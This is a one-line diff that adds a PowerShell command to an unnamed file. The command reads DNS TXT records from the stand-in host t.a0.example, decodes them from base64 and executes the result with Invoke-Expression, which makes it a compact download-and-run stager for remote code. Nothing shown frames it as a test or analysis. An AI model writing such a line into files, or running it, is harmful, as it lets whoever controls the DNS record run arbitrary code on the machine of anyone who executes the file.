@@ -1,0 +1,1 @@
+$r=(Resolve-DnsName -Type TXT t.a0.example).Strings;iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(-join $r)))
